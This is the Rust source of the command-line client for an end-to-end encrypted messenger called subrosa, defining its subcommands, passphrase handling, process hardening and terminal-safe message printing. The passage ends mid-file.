//! `subrosa`: the command-line client.

/// Prints a line to stdout; a closed stdout (`subrosa … | head`) is not an
/// error worth a panic.
macro_rules! out {
    ($($arg:tt)*) => {{
        use std::io::Write as _;
        let _ = writeln!(std::io::stdout(), $($arg)*);
    }};
}

#[cfg(unix)]
mod attach;
mod audio;
mod call;
mod config;
mod daemon;
mod demo;
mod target;
mod term;
mod tui;
#[cfg(unix)]
mod via;

use std::io::{IsTerminal, Write};
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::Duration;

use anyhow::{anyhow, Context, Result};
use clap::{CommandFactory, Parser, Subcommand};
use config::Config;
use subrosa_client::keycache::{CachePolicy, KeyCache};
use subrosa_client::{
    Advice, Client, ClientError, ClientEvent, FailedSend, MessageState, Received, StoredMessage, Subrosa,
};
use term::{safe, safe_message};
use zeroize::Zeroizing;

/// The variable a passphrase may come in; read once, first thing, and removed.
const PASSPHRASE_ENV: &str = "SUBROSA_PASSPHRASE";

/// Subrosa: end-to-end encrypted messaging whose server cannot read, scan,
/// click or keep what you send.
#[derive(Parser, Debug)]
#[command(name = "subrosa", version, about = "Subrosa: end-to-end encrypted messaging. The server relays ciphertext it cannot read and has no way to fetch your links.", long_about = None)]
struct Cli {
    /// The device's home directory [default: $SUBROSA_HOME, else ~/.local/share/subrosa].
    #[arg(long, global = true, env = "SUBROSA_HOME", hide_env_values = true)]
    home: Option<PathBuf>,
    /// How long the key derived from the passphrase stays cached in the
    /// session's kernel keyring, so the next commands need neither the
    /// passphrase nor the 30 ms to derive it: seconds, or 15m, 1h; `off`
    /// neither caches nor uses a cached key. `subrosa lock` drops it.
    /// [default: `key_cache` in HOME/config.toml, else 15m]
    #[arg(long, global = true, env = "SUBROSA_KEY_CACHE", value_name = "TIME|off")]
    key_cache: Option<CachePolicy>,
    /// Open the store in this process even while `subrosa daemon` runs on
    /// this home (by default, the commands the daemon serves go through it).
    #[arg(long, global = true, env = "SUBROSA_NO_DAEMON")]
    no_daemon: bool,
    #[command(subcommand)]
    command: Command,
}

#[derive(Subcommand, Debug)]
enum Command {
    /// Create an account HANDLE and this device on a server.
    Register {
        /// The handle (3-32 of a-z 0-9 _ - .; no phone number, no email).
        handle: String,
        /// The server, e.g. https://chat.example.org (http only to loopback)
        /// [default: `server` in HOME/config.toml].
        #[arg(long)]
        server: Option<String>,
    },
    /// Send a text message, or files with an optional caption, to a group
    /// or a handle.
    Send {
        /// Who: a handle, `@handle`, a group name, or `#ID` (a conversation id
        /// in hex, or a unique prefix of at least 6 digits). A bare name
        /// that could be a group and a contact, or two groups, is refused
        /// with the candidates listed.
        target: String,
        /// What (with --attach: the caption, optional).
        #[arg(required_unless_present = "attach")]
        text: Option<String>,
        /// A file to send (repeatable): encrypted on this device under a
        /// key of its own; the server stores only the padded ciphertext.
        #[arg(long = "attach", value_name = "FILE")]
        attach: Vec<PathBuf>,
        /// Send even though a verified contact's identity key changed.
        #[arg(long)]
        accept_key_change: bool,
        /// Answer the message with this id (the `id` of `history --json`).
        #[arg(long, value_name = "MESSAGE_ID")]
        reply_to: Option<String>,
        /// Send a preview of the text's first https link: this device
        /// fetches the page (the site sees this device's IP address, or the
        /// `preview_proxy`'s) and sends its title, description and a small
        /// image inside the encryption. Recipients never fetch it.
        #[arg(long, conflicts_with_all = ["attach", "reply_to"])]
        preview: bool,
    },
    /// React to a message with an emoji (`--remove` takes your reaction back).
    React {
        /// The conversation: a handle, `@handle`, a group name, or `#ID`.
        target: String,
        /// The message (the `id` of `history --json`).
        message_id: String,
        /// The emoji.
        emoji: String,
        /// Take your reaction back.
        #[arg(long)]
        remove: bool,
    },
    /// Change the text of one of your messages, for everyone.
    Edit {
        /// The conversation: a handle, `@handle`, a group name, or `#ID`.
        target: String,
        /// Your message (the `id` of `history --json`).
        message_id: String,
        /// Its new text.
        text: String,
    },
    /// Delete one of your messages for everyone: every member's device
    /// drops its text and keeps a "deleted" line.
    Delete {
        /// The conversation: a handle, `@handle`, a group name, or `#ID`.
        target: String,
        /// Your message (the `id` of `history --json`).
        message_id: String,
    },
    /// Make a conversation's messages disappear DURATION after they are
    /// sent, from every member's devices and from the server (`off` stops
    /// it). A setting of the conversation: every member sees who set it.
    Disappearing {
        /// The conversation: a handle, `@handle`, a group name, or `#ID`.
        target: String,
        /// 30s, 5m, 1h, 1d, 1w (at most 4w), or `off`.
        duration: String,
    },
    /// Mark a conversation read: its authors get read receipts (unless
    /// `settings read-receipts off`).
    Read {
        /// The conversation: a handle, `@handle`, a group name, or `#ID`.
        target: String,
    },
    /// This device's settings.
    #[command(subcommand)]
    Settings(SettingsCommand),
    /// The dangerous-link list: a signed file of hashed links that this
    /// device checks every link sent and received against, telling nobody.
    #[command(subcommand)]
    Linklist(LinklistCommand),
    /// Fetch, decrypt, store and print queued messages.
    Receive {
        /// One JSON object per line.
        #[arg(long)]
        json: bool,
        /// Wait up to SECS for messages when none are queued.
        #[arg(long, default_value_t = 0.0, value_name = "SECS")]
        timeout: f64,
        /// Stay connected and print messages as they are pushed.
        #[arg(long)]
        follow: bool,
        /// Do not acknowledge: the server delivers them again (shown once).
        #[arg(long, hide = true)]
        no_ack: bool,
        /// Save received attachments into DIR (under their sender's name
        /// made safe, never over an existing file). Without it they are
        /// downloaded, checked and kept encrypted in the home directory.
        #[arg(long, value_name = "DIR")]
        downloads: Option<PathBuf>,
    },
    /// Show a conversation (group or handle), your own messages included.
    History {
        /// A handle, `@handle`, a group name, or `#ID`.
        target: String,
        /// One JSON object per line.
        #[arg(long)]
        json: bool,
    },
    /// List contacts.
    Contacts,
    /// List message requests: conversations someone who is not a contact
    /// started with you or invited you to. They get no receipts until you
    /// accept (or answer).
    Requests,
    /// Accept a message request: receipts flow and its sender becomes a
    /// contact.
    Accept {
        /// The conversation: a handle, `@handle`, a group name, or `#ID`.
        target: String,
    },
    /// Drop everything from an account from now on (never shown, still
    /// acknowledged), refuse its invitations, and leave your direct
    /// conversation with it and groups only with it.
    Block {
        /// The account.
        handle: String,
    },
    /// Take a block back.
    Unblock {
        /// The account.
        handle: String,
    },
    /// Create and change groups.
    #[command(subcommand)]
    Group(GroupCommand),
    /// List your groups.
    Groups,
    /// Link this new device to an existing account (shows a code), or with
    /// --accept CODE approve a new device from an existing one.
    Link {
        /// The account to join (on the new device).
        #[arg(required_unless_present = "accept", conflicts_with = "accept")]
        handle: Option<String>,
        /// The server (on the new device) [default: `server` in HOME/config.toml].
        #[arg(long, conflicts_with = "accept")]
        server: Option<String>,
        /// Approve the new device showing this code (on an existing device).
        #[arg(long, value_name = "CODE")]
        accept: Option<String>,
        /// How long to wait for the other side, in seconds.
        #[arg(long, default_value_t = 300, value_name = "SECS")]
        timeout: u64,
        /// Ask the approving device for recent history (new device).
        #[arg(long, conflicts_with = "accept")]
        with_history: bool,
    },
    /// This account as a whole.
    #[command(subcommand)]
    Account(AccountCommand),
    /// List this account's devices, or remove one.
    Devices {
        #[command(subcommand)]
        action: Option<DevicesCommand>,
    },
    /// Check that a server's key directory only ever grew (anyone can run
    /// this; no account needed).
    Audit {
        /// The server, e.g. https://chat.example.org [default: `server` in
        /// HOME/config.toml].
        #[arg(long)]
        server: Option<String>,
        /// The first epoch to check.
        #[arg(long, value_name = "EPOCH")]
        from: Option<u64>,
    },
    /// Show the safety number with HANDLE (compare it in person, or scan the QR code).
    SafetyNumber {
        /// Whose.
        handle: String,
    },
    /// Compare the safety number with HANDLE and mark the contact verified.
    Verify {
        /// Whose.
        handle: String,
        /// Confirm without asking.
        #[arg(long)]
        yes: bool,
    },
    /// List every device in a conversation, with its handle and fingerprint,
    /// and the conversation's MLS ciphersuite (a last line `ciphersuite`,
    /// its code point and name).
    Members {
        /// A handle, `@handle`, a group name, or `#ID`.
        target: String,
        /// One JSON object: `suite`, `suite_name`, `post_quantum` and
        /// `members` (handle, device, fingerprint, this_device, stale_days).
        #[arg(long)]
        json: bool,
    },
    /// Accept a device that another member added to a conversation although
    /// the key directory does not confirm its keys (sending there is
    /// blocked until you accept it or remove it).
    AcceptDevice {
        /// The conversation: a handle, `@handle`, a group name, or `#ID`.
        target: String,
        /// The device id (hex) as the warning named it (a unique prefix will do).
        device: String,
    },
    /// Serve JSON-RPC 2.0 for scripts and bots on a Unix socket (or
    /// standard input and output), staying connected: methods named after
    /// the commands, `subscribe` for incoming messages. Whoever can open the
    /// socket uses the unlocked store: it is 0600 in a 0700 directory and
    /// only this user's processes are served.
    #[cfg(unix)]
    Daemon {
        /// The socket [default: HOME/daemon/socket]; its directory must be
        /// yours and closed to others (0700).
        #[arg(long, value_name = "PATH", conflicts_with = "stdio")]
        socket: Option<PathBuf>,
        /// Serve one client on standard input and output instead.
        #[arg(long)]
        stdio: bool,
        /// Desktop notifications of new messages, as `tui --notifications`
        /// [default: `notifications` in config.toml, else off]; none while
        /// a terminal UI over this daemon shows its own.
        #[arg(long, value_enum, value_name = "WHEN")]
        notifications: Option<tui::notify::Notifications>,
    },
    /// A terminal UI: conversations, live chat, groups, safety numbers
    /// (keys are listed at the bottom of the screen; `?` shows them all).
    Tui {
        /// Where `s` saves a message's files [default: `downloads` in
        /// config.toml]; outside the home directory.
        #[arg(long, value_name = "DIR")]
        downloads: Option<PathBuf>,
        /// Desktop notifications of new messages [default:
        /// `notifications` in config.toml, else off]: `on` names who wrote,
        /// never the text; `with-text` shows the text too.
        #[arg(long, value_enum, value_name = "WHEN")]
        notifications: Option<tui::notify::Notifications>,
        /// Draw the first frame and end (for the start-up benchmark).
        #[arg(long, hide = true)]
        exit_after_first_frame: bool,
    },
    /// Call a handle or a group: media is end-to-end encrypted (SFrame keyed
    /// from the conversation's MLS group) and flows through the server's
    /// relay, which cannot listen. Headless: a WAV file in, a WAV file out.
    Call {
        /// Whom: a handle, `@handle`, a group name, or `#ID`.
        target: String,
        #[command(flatten)]
        media: call::MediaArgs,
        /// How long to ring before giving up, in seconds.
        #[arg(long, default_value_t = 45.0, value_name = "SECS")]
        timeout: f64,
    },
    /// Wait for a call and answer it (headless: a WAV file in, a WAV file out).
    Answer {
        #[command(flatten)]
        media: call::MediaArgs,
        /// How long to wait for a call, in seconds.
        #[arg(long, default_value_t = 60.0, value_name = "SECS")]
        timeout: f64,
    },
    /// Run a server and two users in a temporary directory and show what the server sees.
    Demo,
    /// Print shell completions to standard output (e.g. `subrosa completions
    /// bash > ~/.local/share/bash-completion/completions/subrosa`).
    Completions {
        /// bash, zsh, fish, elvish or powershell.
        shell: clap_complete::Shell,
    },
    /// Print the manual page (roff) to standard output (`subrosa man | man -l -`).
    Man,
    /// Drop this device's store key from the session's key cache now: the
    /// next command needs the passphrase again.
    Lock,
    /// List security alerts (key-directory forks, misbehaving members, ghost
    /// devices), export a fork's proof, or clear them.
    Alerts {
        #[command(subcommand)]
        action: Option<AlertsCommand>,
        /// Write the proof of the newest proven fork (both signed heads, JSON) to FILE.
        #[arg(long, value_name = "FILE")]
        export: Option<PathBuf>,
        /// One JSON object per line.
        #[arg(long)]
        json: bool,
    },
}

#[derive(Subcommand, Debug)]
enum SettingsCommand {
    /// Send read receipts (`on`, the default) or not (`off`); without a
    /// value, show the setting. Delivery receipts are always sent.
    ReadReceipts {
        /// on or off.
        value: Option<OnOff>,
    },
    /// Make link previews of your messages (`on`) or not (`off`, the
    /// default unless `previews = true` in config.toml); without a value,
    /// show the setting. Your device fetches the link, so the site sees
    /// your IP address unless `preview_proxy` is set in config.toml.
    Previews {
        /// on or off.
        value: Option<OnOff>,
    },
}

#[derive(Subcommand, Debug)]
enum LinklistCommand {
    /// Import a list file (signed by the key this binary pins; a list
    /// older than the one held is refused). It is read from FILE only:
    /// never fetched from or pushed by any server.
    Import {
        /// The list file.
        file: PathBuf,
    },
    /// Show the list this device holds.
    Status,
}

#[derive(clap::ValueEnum, Clone, Copy, Debug, PartialEq, Eq)]
enum OnOff {
    On,
    Off,
}

#[derive(Subcommand, Debug)]
enum AlertsCommand {
    /// Write the proof of the newest proven fork (both signed heads, JSON) to FILE.
    Export {
        /// Where.
        file: PathBuf,
    },
    /// Clear every alert. A proven fork is cleared (and sending allowed
    /// again) only after confirmation.
    Clear {
        /// Confirm clearing a proven fork without asking.
        #[arg(long)]
        yes: bool,
    },
}

#[derive(Subcommand, Debug)]
enum AccountCommand {
    /// Delete this account for good: leave every conversation, revoke
    /// every device, and have the server delete everything it holds for
    /// it; the key directory records the deletion and the handle can never
    /// be registered again. Asks first (`--yes` does not).
    Delete {
        /// Do not ask.
        #[arg(long)]
        yes: bool,
    },
}

#[derive(Subcommand, Debug)]
enum DevicesCommand {
    /// Replace this device's keys in every conversation now, and its key
    /// packages (after a suspected copy of this device's data).
    Rekey,
    /// Remove device ID from every conversation and from the account.
    Remove {
        /// The device id (see `subrosa devices`).
        id: String,
    },
}

#[derive(Subcommand, Debug)]
enum GroupCommand {
    /// Create a group NAME with these handles (and your other devices).
    Create {
        /// The group's name (only members ever see it).
        name: String,
        /// The other members.
        #[arg(required = true)]
        handles: Vec<String>,
    },
    /// Add HANDLE (every device of it) to group NAME.
    Add {
        /// The group: its name or `#ID`.
        name: String,
        /// Who.
        handle: String,
    },
    /// Remove HANDLE (every device of it) from group NAME.
    Remove {
        /// The group: its name or `#ID`.
        name: String,
        /// Who.
        handle: String,
    },
    /// Leave group NAME.
    Leave {
        /// The group: its name or `#ID`.
        name: String,
    },
    /// Rename group NAME to NEW.
    Rename {
        /// The group: its name or `#ID`.
        name: String,
        /// The new name.
        new: String,
    },
    /// Re-create group NAME, stuck because a member device won an epoch
    /// with a commit nobody can process, as a new conversation without that
    /// device (to take its whole account out, `group remove` it afterwards).
    Recreate {
        /// The group: its name or `#ID`.
        name: String,
    },
}

/// Exit status of a send or commit that is stored on this device but not yet
/// on the server (EX_TEMPFAIL): the next command finishes it.
const EXIT_PENDING: u8 = 75;

fn main() -> ExitCode {
    // First, while this is the only thread: the passphrase leaves the
    // environment (no child process inherits it, nothing later reads it
    // again) and the process stops being dumpable.
    let env_passphrase = take_env_passphrase();
    harden_process();
    let cli = match Cli::try_parse() {
        Ok(c) => c,
        Err(e) if !e.use_stderr() => {
            // --help and --version.
            let _ = e.print();
            return ExitCode::SUCCESS;
        }
        Err(e) => {
            // One line, as every error: clap's first line and where to look.
            let text = e.to_string();
            let first = text.lines().next().unwrap_or("invalid arguments").trim_start_matches("error: ");
            eprintln!("error: {} (see `subrosa --help`)", safe(first));
            return ExitCode::from(2);
        }
    };
    // The TUI owns the terminal: a log line there would tear the screen,
    // so it logs only when asked to (SUBROSA_LOG, with stderr redirected).
    let default_filter = if matches!(cli.command, Command::Tui { .. }) { "off" } else { "warn" };
    tracing_subscriber::fmt()
        .with_env_filter(
            tracing_subscriber::EnvFilter::try_from_env("SUBROSA_LOG").unwrap_or_else(|_| default_filter.into()),
        )
        .with_writer(std::io::stderr)
        .with_ansi(std::io::stderr().is_terminal())
        .init();
    let runtime = match tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build() {
        Ok(r) => r,
        Err(e) => {
            eprintln!("error: cannot start the runtime: {e}");
            return ExitCode::FAILURE;
        }
    };
    #[cfg(unix)]
    let daemon = matches!(cli.command, Command::Daemon { .. });
    let tui = matches!(cli.command, Command::Tui { .. });
    let result = runtime.block_on(run(cli, env_passphrase));
    // A daemon on standard input leaves a read of it blocked in the
    // runtime's thread pool, which would hold the exit up forever; so may
    // a command the user left running in the TUI when quitting.
    #[cfg(unix)]
    let tui = tui || daemon;
    if tui {
        runtime.shutdown_timeout(Duration::from_millis(500));
    }
    match result {
        Ok(code) => code,
        Err(e) if matches!(e.downcast_ref::<ClientError>(), Some(ClientError::Pending(_))) => {
            // Stored, not lost: scripts must not send it again (DESIGN.md, exit codes).
            eprintln!("queued: {}", safe(&one_line(&e)));
            ExitCode::from(EXIT_PENDING)
        }
        Err(e) => {
            // Errors may quote the server (or a peer): never raw to the terminal.
            eprintln!("error: {}", safe(&one_line(&e)));
            ExitCode::FAILURE
        }
    }
}

/// Reads `SUBROSA_PASSPHRASE` and removes it from the environment. Called
/// before any thread exists, as `remove_var` requires. (The kernel's copy
/// of the initial environment, `/proc/PID/environ`, readable by the same
/// user only, keeps it: pass the passphrase on a terminal where that matters.)
fn take_env_passphrase() -> Option<Zeroizing<String>> {
    let value = std::env::var(PASSPHRASE_ENV).ok().map(Zeroizing::new);
    std::env::remove_var(PASSPHRASE_ENV);
    value
}

/// No core dump (it would hold the store key and decrypted messages) and,
/// on Linux, not dumpable: no ptrace attach and no /proc/PID/mem for other
/// processes of the same user. Best effort: a refusal is not fatal.
fn harden_process() {
    #[cfg(unix)]
    {
        let none = rustix::process::Rlimit { current: Some(0), maximum: Some(0) };
        let _ = rustix::process::setrlimit(rustix::process::Resource::Core, none);
    }
    #[cfg(any(target_os = "linux", target_os = "android"))]
    {
        let _ = rustix::process::set_dumpable_behavior(rustix::process::DumpableBehavior::NotDumpable);
    }
}

fn one_line(e: &anyhow::Error) -> String {
    let mut s = e.to_string();
    for cause in e.chain().skip(1) {
        let c = cause.to_string();
        if !s.contains(&c) {
            s.push_str(": ");
            s.push_str(&c);
        }
    }
    s.replace('\n', " ")
}

fn home(cli_home: &Option<PathBuf>) -> Result<PathBuf> {
    if let Some(h) = cli_home {
        return Ok(h.clone());
    }
    let base = std::env::var_os("XDG_DATA_HOME")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".local/share")))
        .ok_or_else(|| anyhow!("no home directory: pass --home DIR or set SUBROSA_HOME"))?;
    Ok(base.join("subrosa"))
}

/// The passphrase: `SUBROSA_PASSPHRASE` (as read at start), else a prompt on a terminal.
fn passphrase(from_env: Option<Zeroizing<String>>, confirm: bool) -> Result<Zeroizing<String>> {
    if let Some(p) = from_env {
        return Ok(p);
    }
    if !std::io::stdin().is_terminal() {
        return Err(anyhow!("no passphrase: set SUBROSA_PASSPHRASE (standard input is not a terminal to ask on)"));
    }
    let p =
        Zeroizing::new(rpassword::prompt_password("Passphrase for the local store: ").context("reading passphrase")?);
    if confirm {
        let again = Zeroizing::new(rpassword::prompt_password("Repeat passphrase: ").context("reading passphrase")?);
        if *again != *p {
            return Err(anyhow!("the passphrases differ; nothing was created"));
        }
    }
    Ok(p)
}

/// Text that may hold what others sent (handles are validated, but an
/// alert can quote a server's message), with control characters and bidi
/// overrides neutralised.
fn neutralised(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}') { '?' } else { c })
        .collect()
}

fn write_fork_proof(me: &Subrosa, file: &std::path::Path) -> Result<()> {
    let proof = me.fork_proof()?.ok_or_else(|| anyhow!("no proven key-directory fork to export"))?;
    let pretty = serde_json::from_str::<serde_json::Value>(&proof)
        .and_then(|v| serde_json::to_string_pretty(&v))
        .unwrap_or(proof);
    std::fs::write(file, format!("{pretty}\n")).with_context(|| format!("writing {}", file.display()))?;
    out!("wrote the proof of the fork (two conflicting signed heads) to {}", file.display());
    Ok(())
}

fn alerts(me: &Subrosa, action: Option<AlertsCommand>, export: Option<PathBuf>, json: bool) -> Result<ExitCode> {
    match (action, export) {
        (Some(AlertsCommand::Export { file }), None) | (None, Some(file)) => write_fork_proof(me, &file)?,
        (Some(_), Some(_)) => return Err(anyhow!("give either `alerts export FILE` or `alerts --export FILE`")),
        (Some(AlertsCommand::Clear { yes }), None) => {
            let forks = me.alerts()?.iter().filter(|a| a.fork).count();
            let confirmed = forks > 0
                && (yes || {
                    if std::io::stdin().is_terminal() {
                        let _ = write!(
                            std::io::stdout(),
                            "This device holds proof that the server showed different people different keys. \
                             Clear it and allow sending again? [y/N] "
                        );
                        let _ = std::io::stdout().flush();
                        let mut answer = String::new();
                        std::io::stdin().read_line(&mut answer).context("reading the answer")?;
                        matches!(answer.trim(), "y" | "Y" | "yes")
                    } else {
                        false
                    }
                });
            let (cleared, remaining) = me.clear_alerts(confirmed)?;
            out!("cleared {cleared} alert(s)");
            if remaining > 0 {
                return Err(anyhow!(
                    "a proven key-directory fork stays and sending stays blocked: export its proof \
                     (`subrosa alerts export FILE`), then clear it with `subrosa alerts clear --yes`"
                ));
            }
        }
        (None, None) => {
            // Listed here: not repeated as warnings after the command.
            me.take_alerts()?;
            let list = me.alerts()?;
            for a in &list {
                if json {
                    out!("{}", serde_json::to_string(a).unwrap_or_default());
                } else {
                    let kind = if a.fork { "FORK (sending blocked) " } else { "" };
                    let who = a.concerns.as_deref().unwrap_or("-");
                    out!("#{}\t{}\t{}\t{kind}{}", a.id, format_time(a.at), neutralised(who), neutralised(&a.text));
                }
            }
            if list.is_empty() && !json {
                out!("no alerts");
            }
        }
    }
    Ok(ExitCode::SUCCESS)
}

/// Asks whether `handle` sees the same number (unless `yes`); an error
/// unless confirmed.
fn confirm_verified(handle: &str, yes: bool) -> Result<()> {
    let confirmed = if yes {
        true
    } else if std::io::stdin().is_terminal() {
        let _ = write!(std::io::stdout(), "Does {} see the same number? [y/N] ", safe(handle));
        let _ = std::io::stdout().flush();
        let mut answer = String::new();
        std::io::stdin().read_line(&mut answer).context("reading the answer")?;
        matches!(answer.trim(), "y" | "Y" | "yes")
    } else {
        return Err(anyhow!("not verified: compare the numbers, then confirm with --yes"));
    };
    if !confirmed {
        return Err(anyhow!("not verified: the numbers must match on both devices"));
    }
    Ok(())
}

/// Asks whether to delete the account `handle` for good (unless `yes`):
/// the user types the handle. An error unless confirmed.
fn confirm_deletion(handle: &str, yes: bool) -> Result<()> {
    if yes {
        return Ok(());
    }
    if !std::io::stdin().is_terminal() {
        return Err(anyhow!("not deleted: confirm with --yes (this cannot be undone)"));
    }
    let _ = write!(
        std::io::stdout(),
        "This deletes {} for good: every device, every conversation, and the handle. Type the handle to confirm: ",
        safe(handle)
    );
    let _ = std::io::stdout().flush();
    let mut answer = String::new();
    std::io::stdin().read_line(&mut answer).context("reading the answer")?;
    if answer.trim() != handle {
        return Err(anyhow!("not deleted: the handle typed did not match"));
    }
    Ok(())
}

fn print_safety_number(n: &str) {
    out!("{}", subrosa_core::safety::grouped(n));
    if std::io::stdout().is_terminal() {
        out!("{}", tui::qr_lines(n).join("\n"));
    }
}

fn format_time(ms: u64) -> String {
    let fmt = time::macros::format_description!("[year]-[month]-[day] [hour]:[minute]:[second]");
    time::OffsetDateTime::from_unix_timestamp_nanos(ms as i128 * 1_000_000)
        .ok()
        .and_then(|t| t.format(&fmt).ok())
        .unwrap_or_else(|| ms.to_string())
}

/// `receive --follow`: the handle stays connected (reconnecting by itself)
/// and this prints its events as they come, until an error retrying
/// cannot fix.
async fn follow_events(client: &Client, json: bool) -> Result<ExitCode> {
    let mut events = client.events();
    let run = client.run();
    tokio::pin!(run);
    let show = |e: ClientEvent| match e {
        ClientEvent::Message(m) | ClientEvent::System(m) => print_message(client.device(), &m, json),
        ClientEvent::Alert(a) => eprintln!("warning: {}", safe(&a)),
        ClientEvent::SendFailed(f) => print_failed(&f),
        ClientEvent::Dropped { from, reason } => print_dropped(&from, &reason),
        ClientEvent::Disconnected { reason, retry_in } => {
            eprintln!("warning: {}; reconnecting in {:.1} s", safe(&reason), retry_in.as_secs_f64())
        }
        _ => {}
    };
    loop {
        tokio::select! {
            biased;
            e = events.recv() => match e {
                Ok(e) => show(e),
                Err(tokio::sync::broadcast::error::RecvError::Lagged(n)) => {
                    eprintln!("warning: {n} events were not shown (output too slow); `subrosa history` has every message");
                }
                Err(tokio::sync::broadcast::error::RecvError::Closed) => {}
            },
            r = &mut run => {
                // What was published before it ended is shown first.
                while let Ok(e) = events.try_recv() {
                    show(e);
                }
                r?;
                return Ok(ExitCode::SUCCESS);
            }
        }
    }
}

/// A system line as the command line says it: the session's neutral
/// rendering, and the command that helps, when one does.
fn with_advice(m: &StoredMessage) -> std::borrow::Cow<'_, StoredMessage> {
    let advice = match m.event.as_ref().and_then(|e| e.advice()) {
        Some(Advice::Verify { handle }) => format!(" (subrosa verify {handle})"),
        // By the conversation's id, never its name: a group's name is any
        // member's choice and must not become part of a command to type.
        Some(Advice::AcceptDevice { device, .. }) => {
            format!(" (subrosa accept-device #{} {device}, or remove it with subrosa group remove)", m.conversation)
        }
        _ => return std::borrow::Cow::Borrowed(m),
    };
    let mut m = m.clone();
    m.text.push_str(&advice);
    std::borrow::Cow::Owned(m)
}

/// A message id as typed: 32 hex digits.
/// Longest disappearing-messages timer: four weeks (a server keeps
/// undelivered mail 30 days by default, and bounds every expiry by its TTL).
const MAX_DISAPPEARING_SECS: u32 = 4 * 7 * 86_400;

/// `off`, or a duration: a number and a unit (s, m, h, d, w).
fn parse_disappearing(s: &str) -> Result<Option<u32>> {
    let s = s.trim();
    if s.eq_ignore_ascii_case("off") {
        return Ok(None);
    }
    let bad = || anyhow!("{} is not a duration: give 30s, 5m, 1h, 1d, 1w (at most 4w) or off", safe(s));
    let split = s.find(|c: char| !c.is_ascii_digit()).ok_or_else(bad)?;
    let (digits, unit) = s.split_at(split);
    let n: u32 = digits.parse().map_err(|_| bad())?;
    let unit: u32 = match unit {
        "s" => 1,
        "m" => 60,
        "h" => 3_600,
        "d" => 86_400,
        "w" => 604_800,
        _ => return Err(bad()),
    };
    match n.checked_mul(unit) {
        Some(secs) if secs > 0 && secs <= MAX_DISAPPEARING_SECS => Ok(Some(secs)),
        _ => Err(bad()),
    }
}

fn message_id(s: &str) -> Result<subrosa_proto::MessageId> {
    s.trim()
        .parse()
        .map_err(|_| anyhow!("{} is not a message id: 32 hex digits (the `id` of `history --json`)", safe(s)))
}

/// What a message carries besides its text, in words: the message it
/// answers, an edit, reactions (all from other people: made safe).
fn annotations(m: &StoredMessage) -> (String, String) {
    let before = match &m.reply_to {
        Some(id) => format!("(re {}) ", &id[..id.len().min(8)]),
        None => String::new(),
    };
    let mut after = String::new();
    if m.edited {
        after.push_str(" (edited)");
    }
    for r in &m.reactions {
        let from: Vec<String> = r.from.iter().map(|f| safe(f).into_owned()).collect();
        after.push_str(&format!(" [{} {}]", safe(&r.emoji), from.join(", ")));
    }
    (before, after)
}

/// One message, in plain text or as a JSON line; others' text made safe
/// for the terminal either way (see `term`). Its request mark and
/// dangerous links come with it (set where it was read: see
/// [`Subrosa::mark_shown`]).
fn print_message(me: &Subrosa, m: &StoredMessage, json: bool) {
    let files = if m.system { Vec::new() } else { attach::files_of(me, m) };
    let attachments = (!files.is_empty()).then(|| attach::json(&files));
    print_shown(&with_advice(m), attachments.as_ref(), json)
}

/// As [`print_message`], for a message whose system line already carries
/// its advice (as the daemon hands them out), with its files as the
/// `attachments` of its JSON line.
fn print_shown(m: &StoredMessage, attachments: Option<&serde_json::Value>, json: bool) {
    let mut out = std::io::stdout().lock();
    if json {
        let value = match serde_json::to_value(m) {
            Ok(mut v) if attachments.is_some() => {
                v["attachments"] = attachments.cloned().unwrap_or_default();
                v
            }
            Ok(v) => v,
            Err(_) => return,
        };
        if let Ok(line) = term::json_line(&value) {
            let _ = writeln!(out, "{line}");
        }
    } else {
        let mut place = if m.group { format!("#{} ", safe(&m.target)) } else { String::new() };
        if m.request {
            place.insert_str(0, "[request] ");
        }
        let text = safe_message(&m.text);
        if m.system {
            let _ = writeln!(out, "[{}] {place}* {text}", format_time(m.sent_at));
        } else {
            let who = if m.outgoing { format!("{} (you)", safe(&m.from)) } else { safe(&m.from).into_owned() };
            let state = match m.state {
                Some(MessageState::Queued) => " [queued: not yet on the server]".to_string(),
                Some(MessageState::Failed) => {
                    format!(" [failed: {}]", safe(m.reason.as_deref().unwrap_or("refused by the server")))
                }
                Some(MessageState::Delivered) => " [delivered]".to_string(),
                Some(MessageState::Read) => " [read]".to_string(),
                _ => String::new(),
            };
            let text = if m.deleted { "[deleted]".into() } else { text };
            let (before, after) = annotations(m);
            let _ = writeln!(out, "[{}] {place}{who}: {before}{text}{after}{state}", format_time(m.sent_at));
            for line in attachments.map(attach::lines).unwrap_or_default() {
                let _ = writeln!(out, "{line}");
            }
            if let Some(p) = m.preview.as_ref().filter(|_| !m.deleted) {
                let image = if p.has_thumbnail { " [image]" } else { "" };
                let _ = writeln!(
                    out,
                    "    preview of {} (by the sender's device): {} | {}{image}",
                    safe(&p.url),
                    safe(&p.title),
                    safe(&p.description)
                );
            }
            for link in &m.dangerous_links {
                let _ = writeln!(out, "    warning: dangerous link (on your dangerous-link list): {}", safe(link));
            }
        }
    }
    let _ = out.flush();
}

/// A message dropped on arrival, told on stderr.
fn print_dropped(from: &str, reason: &str) {
    eprintln!(
        "warning: dropped a message from {} that could not be decrypted or authenticated: {}",
        safe(from),
        safe(reason)
    );
}

/// The exit of a `receive` that dropped `n` messages (none: carry on).
fn dropped_exit(n: usize) -> Option<ExitCode> {
    (n > 0).then(|| {
        eprintln!("error: {n} message(s) could not be decrypted and were dropped (tampered, replayed or corrupted)");
        ExitCode::FAILURE
    })
}

/// What `disappearing` prints.
fn print_disappearing(seconds: Option<u32>, changed: bool) {
    let what = match seconds {
        Some(s) => format!("disappearing messages: {}", subrosa_client::format_duration(s)),
        None => "disappearing messages: off".to_string(),
    };
    out!("{what}{}", if changed { "" } else { " (unchanged)" });
}

/// What `accept` prints.
fn print_accepted(target: &str, accepted: bool) {
    if accepted {
        out!("accepted {}", safe(target));
    } else {
        out!("{} is not a message request (nothing to accept)", safe(target));
    }
}

/// What `unblock` prints.
fn print_unblocked(handle: &str, was: bool) {
    if was {
        out!("unblocked {}", safe(handle));
    } else {
        out!("{} was not blocked", safe(handle));
    }
}

/// What `account delete` prints.
fn print_deleted(handle: &str, left: u64, home: &std::path::Path) {
    out!(
        "deleted the account {} (left {left} conversation(s)); the server holds nothing of it, and this device's \
         store in {} can be deleted",
        safe(handle),
        home.display()
    );
}

/// What `linklist import` prints for a new list.
